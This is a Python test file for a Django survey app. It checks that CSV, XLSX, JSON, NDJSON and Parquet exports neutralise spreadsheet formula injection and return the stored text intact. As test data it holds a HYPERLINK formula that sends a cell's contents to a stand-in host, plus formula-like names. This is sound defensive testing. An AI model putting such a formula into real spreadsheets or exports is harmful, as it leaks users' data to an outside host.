"""Exports must not attack the program that opens them (issue 13): CSV injection, one quoting
rule on every database, XLSX string cells, a BOM on request, and every format giving back
the stored text, through the real API on the real database."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from reports import services
from reports.exports import (
    ANSWER_COLUMNS,
    UTF8_BOM,
    Export,
    ExportRequest,
    neutralise_formula,
    xlsx_text,
)
from reports.models import ExportAudit, QuestionScore, TeamScore
from surveys import services as survey_services
from surveys.models import Answer, Survey, Team
from tests.conftest import api_answers, complete_answers
from tests.reports.test_api import submit, token_client
from tests.reports.test_export_formats import stored_text
from tests.reports.test_exports import EVIDENCE_COUNTS, FORMATS, fetch, parse

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A2,"click")'
COMMENT = ANSWER_COLUMNS.index("comment") + 1  # XLSX column number


@pytest.fixture
def admin_api(admin_user):
    return token_client(admin_user)


def post_response(survey, user, comments: dict[int, str]):
    """Submit ``user``'s answers through the API, with comments on answers by position."""
    answers = api_answers(survey.framework, 2)
    for position, comment in comments.items():
        answers[position]["comment"] = comment
    response = token_client(user).post(
        f"/api/v1/surveys/{survey.pk}/responses/",
        {"team": "recsys", "answers": answers},
        format="json",
    )
    assert response.status_code == 201, response.content


def test_a_hyperlink_formula_comment_is_text_in_csv_and_verbatim_elsewhere(
    survey, member, admin_api
):
    post_response(survey, member, {0: HYPERLINK})
    _, body = fetch(admin_api, "answers", survey=survey.pk, format="csv")
    # the cell starts with a quote, its inner quotes doubled by CSV quoting
    assert b'"\'=HYPERLINK(""http://example.invalid/?x=""&A2,""click"")"' in body
    assert b'"=HYPERLINK' not in body and b",=HYPERLINK" not in body
    assert parse(body, "csv")[0]["comment"] == "'" + HYPERLINK
    for fmt in ("json", "ndjson", "parquet"):
        _, body = fetch(admin_api, "answers", survey=survey.pk, format=fmt)
        assert parse(body, fmt)[0]["comment"] == HYPERLINK
    _, body = fetch(admin_api, "answers", survey=survey.pk, format="xlsx")
    cell = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0].cell(row=2, column=COMMENT)
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")


def test_an_anonymous_invitees_formula_comment_is_neutralised_too(survey, team, admin_api):
    survey.anonymous = True
    survey.min_group_size = 2
    survey.save()
    for index in range(2):  # as an admin's personal invitation links submit: no user
        answers = complete_answers(survey.framework, 1)
        answers[0] = survey_services.AnswerInput(
            question=answers[0].question, score=1, comment=HYPERLINK
        )
        survey_services.response_submit(
            survey=survey,
            team=team,
            respondent_key=survey_services.link_respondent_key(
                survey, team, f"guest{index}@example.org"
            ),
            answers=answers,
        )
    survey.status = "closed"  # anonymous results are released when the survey closes
    survey.save()
    _, body = fetch(admin_api, "answers", survey=survey.pk, format="csv")
    comments = [row["comment"] for row in parse(body, "csv") if row["comment"]]
    assert comments == ["'" + HYPERLINK] * 2


def test_a_lone_carriage_return_stays_in_one_csv_row(survey, member, admin_api):
    post_response(survey, member, {0: "cr only\rhere", 1: "crlf\r\nhere"})
    _, body = fetch(admin_api, "answers", survey=survey.pk, format="csv")
    assert b'"cr only\rhere"' in body
    rows = parse(body, "csv")
    assert len(rows) == survey.framework.questions.count()
    assert [row["comment"] for row in rows[:3]] == ["cr only\rhere", "crlf\r\nhere", ""]
    assert {row["team"] for row in rows} == {"recsys"}


def test_names_that_people_type_are_neutralised_in_csv_and_numbers_are_not(
    survey, team, member, admin_api
):
    Survey.objects.filter(pk=survey.pk).update(title="=1+2")
    Team.objects.filter(pk=team.pk).update(slug="-recsys")
    member.username = "@alice+1"  # Django usernames may hold @ + - . _
    member.save()
    submit(survey, team, member, 3)
    services.aggregate(survey=survey)
    _, body = fetch(admin_api, "answers", survey=survey.pk, format="csv")
    row = parse(body, "csv")[0]
    assert (row["survey"], row["team"], row["respondent"]) == ("'=1+2", "'-recsys", "'@alice+1")
    assert (row["survey_id"], row["score"], row["na"]) == (str(survey.pk), "3", "false")
    _, body = fetch(admin_api, "scores", survey=survey.pk, format="csv")
    rows = parse(body, "csv")
    assert {row["team"] for row in rows} == {"'-recsys", "fraud"}
    overall = [row for row in rows if row["team"] == "'-recsys" and row["dimension"] == "overall"]
    assert [row["score"] for row in overall] == ["75.00"]
    _, body = fetch(admin_api, "answers", survey=survey.pk, format="json")
    row = json.loads(body)[0]
    assert (row["survey"], row["team"], row["respondent"]) == ("=1+2", "-recsys", "@alice+1")


def test_xlsx_text_is_always_a_string_cell(survey, member, admin_api):
    texts = ["#N/A", "=1+1", "123", "TRUE", "2026-01-05", "#DIV/0!", "-1"]
    post_response(survey, member, dict(enumerate(texts)))
    _, body = fetch(admin_api, "answers", survey=survey.pk, format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [sheet.cell(row=2 + index, column=COMMENT) for index in range(len(texts))]
    assert [(cell.value, cell.data_type) for cell in cells] == [(text, "s") for text in texts]
    score = sheet.cell(row=2, column=ANSWER_COLUMNS.index("score") + 1)
    assert (score.value, score.data_type) == (2, "n")


def test_xlsx_holds_characters_that_xml_cannot_as_ooxml_escapes(survey, member, admin_api):
    # U+FFFE written raw made the whole workbook unreadable; control characters were dropped
    texts = ["non\ufffecharacter", "bell\x07", "cr only\rhere", "_x0041_"]
    post_response(survey, member, dict(enumerate(texts)))
    _, body = fetch(admin_api, "answers", survey=survey.pk, format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    read = [sheet.cell(row=2 + index, column=COMMENT).value for index in range(len(texts))]
    assert read == ["non_xFFFE_character", "bell_x0007_", "cr only_x000D_here", "_x005F_x0041_"]
    assert [unescape(value) for value in read] == texts


def test_bom_true_starts_the_csv_with_a_utf8_bom_and_changes_nothing_else(
    survey, member, admin_api
):
    post_response(survey, member, {0: "café ✓"})
    services.aggregate(survey=survey)
    for kind in ("answers", "scores"):
        _, plain = fetch(admin_api, kind, survey=survey.pk, format="csv")
        response, bommed = fetch(admin_api, kind, survey=survey.pk, format="csv", bom="true")
        assert response.status_code == 200
        assert not plain.startswith(UTF8_BOM)
        assert bommed == b"\xef\xbb\xbf" + plain
        rows = list(csv.DictReader(io.StringIO(bommed.decode("utf-8-sig"), newline="")))
        assert rows == parse(plain, "csv")
    _, explicit = fetch(admin_api, "scores", survey=survey.pk, format="csv", bom="false")
    assert explicit == plain


@pytest.mark.parametrize("fmt", ["json", "ndjson", "xlsx", "parquet"])
def test_bom_applies_to_csv_only(survey, admin_api, fmt):
    response, _ = fetch(admin_api, "answers", survey=survey.pk, format=fmt, bom="true")
    assert response.status_code == 400
    assert response.json() == {"bom": ["bom applies to csv only."]}
    response, _ = fetch(admin_api, "answers", survey=survey.pk, format=fmt, bom="false")
    assert response.status_code == 200
    response, _ = fetch(admin_api, "answers", survey=survey.pk, bom="perhaps")
    assert response.status_code == 400
    assert response.json() == {"bom": ["Must be a valid boolean."]}


def test_the_export_command_writes_a_bom_on_request(survey, member, tmp_path):
    post_response(survey, member, {0: HYPERLINK})
    plain, bommed = tmp_path / "plain.csv", tmp_path / "bom.csv"
    for target, flags in ((plain, []), (bommed, ["--bom"])):
        call_command("export", "answers", "--survey", str(survey.pk), *flags, "-o", str(target))
    assert bommed.read_bytes() == UTF8_BOM + plain.read_bytes()
    assert parse(plain.read_bytes(), "csv")[0]["comment"] == "'" + HYPERLINK
    with pytest.raises(CommandError, match="--bom: bom applies to csv only"):
        call_command(
            "export", "answers", "--survey", str(survey.pk), "--format", "json", "--bom", "-o", "-"
        )
    assert ExportAudit.objects.count() == 2


# --- properties: every format gives back the stored text, both CSV writers agree -------------


@pytest.fixture
def commented(survey, team, member):
    """A counted response whose first answers' comments the examples overwrite."""
    response = submit(survey, team, member, 2)
    return list(
        Answer.objects.filter(response=response)
        .order_by("question__order")
        .values_list("pk", flat=True)[:4]
    )


def _store_comments(answer_ids: list[int], comments: list[str]) -> list[str]:
    stored = (comments + [""] * len(answer_ids))[: len(answer_ids)]
    for pk, comment in zip(answer_ids, stored, strict=True):
        Answer.objects.filter(pk=pk).update(comment=comment)
    return stored


def _expected(stored: str, fmt: str) -> str | None:
    """What a reader of ``fmt`` gives back for a stored text (see the README)."""
    if fmt == "csv":
        return neutralise_formula(stored)
    if fmt == "xlsx":
        return xlsx_text(stored) or None  # an empty text is an empty cell
    return stored


_EXAMPLES = settings(
    max_examples=30,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@_EXAMPLES
@given(comments=st.lists(stored_text, min_size=1, max_size=4))
def test_every_format_gives_back_the_stored_comments(survey, commented, admin_api, comments):
    stored = _store_comments(commented, comments)
    n_answers = survey.framework.questions.count()
    for fmt in FORMATS:
        response, body = fetch(admin_api, "answers", survey=survey.pk, format=fmt)
        assert response.status_code == 200
        rows = parse(body, fmt)
        assert len(rows) == n_answers  # no text splits a row
        read = [row["comment"] for row in rows[: len(stored)]]
        assert read == [_expected(text, fmt) for text in stored], fmt
        if fmt == "xlsx":
            assert [unescape(value or "") for value in read] == stored


def _as_in(fmt: str, value: str | None) -> str | None:
    """What ``fmt`` holds for a text that JSON gives as ``value`` (None: SQL NULL)."""
    if fmt == "csv":
        return "" if value is None else neutralise_formula(value)
    if fmt == "xlsx":
        return xlsx_text(value) or None if value is not None else None
    return value


def test_every_format_agrees_with_json_on_every_text_column(survey, team, member, commented):
    """Every text column that people type, in every format, against JSON's row: CSV
    neutralised, XLSX escaped (never a formula), NDJSON and Parquet equal."""
    admin_api = token_client(type(member).objects.create_superuser("root", "r@example.org", "x"))
    text_columns = ["survey", "team", "respondent", "comment"]

    @_EXAMPLES
    @given(
        comments=st.lists(stored_text, min_size=1, max_size=4),
        title=stored_text.map(lambda text: text[:200]),
        slug=stored_text.map(lambda text: text[:64]).filter(lambda text: text != "fraud"),
        username=stored_text.map(lambda text: text[:150]).filter(lambda text: text != "root"),
    )
    def agree(comments, title, slug, username) -> None:
        _store_comments(commented, comments)
        Survey.objects.filter(pk=survey.pk).update(title=title)
        Team.objects.filter(pk=team.pk).update(slug=slug)
        type(member).objects.filter(pk=member.pk).update(username=username)
        _, body = fetch(admin_api, "answers", survey=survey.pk, format="json")
        reference = parse(body, "json")
        assert reference[0]["team"] == slug and reference[0]["respondent"] == username
        for fmt in ("csv", "ndjson", "xlsx", "parquet"):
            response, body = fetch(admin_api, "answers", survey=survey.pk, format=fmt)
            assert response.status_code == 200
            rows = parse(body, fmt)
            assert len(rows) == len(reference), fmt
            for row, expected in zip(rows, reference, strict=True):
                for column in text_columns:
                    assert row[column] == _as_in(fmt, expected[column]), (fmt, column)

    agree()


@pytest.mark.parametrize("anonymous", [False, True])
def test_copy_and_python_csv_writers_write_the_same_bytes(
    postgres_only, survey, team, member, commented, anonymous
):
    Survey.objects.filter(pk=survey.pk).update(
        anonymous=anonymous, min_group_size=1, status="closed"
    )
    survey.refresh_from_db()
    services.aggregate(survey=survey)
    first_question = survey.framework.questions.order_by("order").first()

    @_EXAMPLES
    @given(
        comments=st.lists(stored_text, min_size=1, max_size=4),
        title=stored_text.map(lambda text: text[:200]),
        slug=stored_text.map(lambda text: text[:64]).filter(lambda text: text != "fraud"),
        username=stored_text.map(lambda text: text[:150]),
        # any stored text, not only the five verdicts: the columns are what is tested
        verdict=stored_text.map(lambda text: text[:16]),
        counts=st.lists(st.integers(0, 2**31 - 1), min_size=4, max_size=4),
    )
    def agree(comments, title, slug, username, verdict, counts) -> None:
        _store_comments(commented, comments)
        Survey.objects.filter(pk=survey.pk).update(title=title)
        Team.objects.filter(pk=team.pk).update(slug=slug)
        type(member).objects.filter(pk=member.pk).update(username=username)
        team_score = TeamScore.objects.filter(survey=survey, team=team)
        team_score.update(**dict(zip(EVIDENCE_COUNTS, counts, strict=True)))
        QuestionScore.objects.filter(team_score__in=team_score, question=first_question).update(
            verdict=verdict
        )
        for kind in ("answers", "scores"):
            export = Export(ExportRequest(kind=kind, survey=survey))
            by_copy = b"".join(export._copy_csv())
            # the Python writer, which SQLite uses and PostgreSQL otherwise never does
            by_python = b"".join(export._python_csv())
            assert by_copy == by_python
            rows = list(csv.DictReader(io.StringIO(by_copy.decode(), newline="")))
            assert neutralise_formula(slug) in {row["team"] for row in rows}
            if kind == "answers":
                assert rows[0]["survey"] == neutralise_formula(title)
                if not anonymous:
                    assert rows[0]["respondent"] == neutralise_formula(username)
                # the team's first answer: its question's verdict ("" is no verdict)
                [first] = [
                    row
                    for row in rows
                    if row["team"] == neutralise_formula(slug)
                    and row["question_key"] == first_question.key
                ]
                assert first["verdict"] == neutralise_formula(verdict)
            else:
                overall = next(row for row in rows if row["team"] == neutralise_formula(slug))
                assert [int(overall[name]) for name in EVIDENCE_COUNTS] == counts

    agree()


@pytest.mark.parametrize("anonymous", [False, True])
def test_parquet_from_postgresql_csv_equals_parquet_from_fetched_rows(
    postgres_only, survey, team, member, commented, anonymous
):
    """Parquet on PostgreSQL is Arrow's reading of COPY's CSV; elsewhere Arrow arrays of the
    fetched rows. Both give the same typed table, whatever the text."""
    import pyarrow as pa

    Survey.objects.filter(pk=survey.pk).update(
        anonymous=anonymous, min_group_size=1, status="closed"
    )
    survey.refresh_from_db()
    services.aggregate(survey=survey)

    @_EXAMPLES
    @given(
        comments=st.lists(stored_text, min_size=1, max_size=4),
        title=stored_text.map(lambda text: text[:200]),
        slug=stored_text.map(lambda text: text[:64]).filter(lambda text: text != "fraud"),
    )
    def agree(comments, title, slug) -> None:
        _store_comments(commented, comments)
        Survey.objects.filter(pk=survey.pk).update(title=title)
        Team.objects.filter(pk=team.pk).update(slug=slug)
        for kind in ("answers", "scores"):
            export = Export(ExportRequest(kind=kind, survey=survey, format="parquet"))
            schema = pa.schema(
                list(zip(export.query.columns, export.query.arrow_types, strict=True))
            )
            by_copy = pa.Table.from_batches(list(export._copy_arrow_batches(schema)), schema)
            by_rows = pa.Table.from_batches(list(export._arrow_batches(schema)), schema)
            assert by_copy.num_rows == by_rows.num_rows > 0
            assert by_copy.to_pylist() == by_rows.to_pylist()
            if kind == "answers":
                assert by_copy.column("comment").to_pylist()[: len(comments)] == comments

    agree()
